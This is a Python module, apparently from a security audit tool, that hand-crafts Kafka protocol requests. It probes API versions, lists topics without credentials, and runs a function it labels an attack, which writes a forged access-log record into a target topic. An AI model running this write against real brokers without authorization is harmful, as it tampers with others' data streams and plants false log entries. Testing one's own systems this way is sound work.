"""Kafka by hand: which versions, which topics, and a record of the attacker's own."""

from __future__ import annotations

import struct
import time

from .report import Outcome, Report
from .target import Target
from .wire import Wire, attempt

PRODUCE, METADATA, VERSIONS = 0, 3, 18
CASTAGNOLI = 0x82F63B78
LINE = b'stranger - - [01/Jan/2026:00:00:00 +0000] "GET /stranger HTTP/1.1" 200 1'


def kafka(target: Target, report: Report) -> None:
    port = target.ports["kafka"]
    for door in ("kafka", "kafka_controller"):
        attempt(report, door, "which versions", target.ports[door], _versions)
    attempt(report, "kafka", "list topics", port, _metadata)
    attempt(report, "kafka", f"write to {target.topic}", port, _write(target.topic))


def _versions(wire: Wire) -> tuple[Outcome, object]:
    answer = _call(wire, VERSIONS, 0)
    return Outcome.ANSWERED, f"{struct.unpack('>i', answer[2:6])[0]} kinds of requests"


def _metadata(wire: Wire) -> tuple[Outcome, object]:
    return Outcome.READ, _call(wire, METADATA, 1, struct.pack(">i", -1))[:150]


def _write(topic: str):
    """An attack that adds a record to the topic's first partition."""

    def act(wire: Wire) -> tuple[Outcome, object]:
        records = _batch(LINE)
        named = _text(topic.encode())
        body = struct.pack(">hhii", -1, -1, 3000, 1) + named
        body += struct.pack(">iii", 1, 0, len(records)) + records
        answer = _call(wire, PRODUCE, 3, body)
        error = struct.unpack(">h", answer[4 + len(named) + 8 :][:2])[0]
        return (Outcome.REFUSED if error else Outcome.CHANGED), f"error {error}"

    return act


def _call(wire: Wire, key: int, version: int, body: bytes = b"") -> bytes:
    """Send a request; the answer without its number."""
    wire.send_frame(struct.pack(">hhi", key, version, 7) + _text(b"stranger") + body)
    answer = wire.frame()
    if answer[:4] != struct.pack(">i", 7):
        raise ValueError(f"an answer to another request: {answer[:8]!r}")
    return answer[4:]


def _text(value: bytes) -> bytes:
    return struct.pack(">h", len(value)) + value


def _batch(value: bytes) -> bytes:
    """A batch of one record, in Kafka's format 2."""
    record = b"\0\0\0" + _zigzag(-1) + _zigzag(len(value)) + value + _zigzag(0)
    record = _zigzag(len(record)) + record
    now = int(time.time() * 1000)
    tail = struct.pack(">hiqqqhii", 0, 0, now, now, -1, -1, -1, 1) + record
    return struct.pack(">qiib", 0, len(tail) + 9, -1, 2) + struct.pack(">I", _crc(tail)) + tail


def _zigzag(value: int) -> bytes:
    value, out = (value << 1) ^ (value >> 63), b""
    while value > 0x7F:
        out, value = out + bytes([value & 0x7F | 0x80]), value >> 7
    return out + bytes([value])


def _crc(data: bytes) -> int:
    """CRC-32C, bit by bit."""
    crc = 0xFFFFFFFF
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = crc >> 1 ^ (CASTAGNOLI if crc & 1 else 0)
    return crc ^ 0xFFFFFFFF
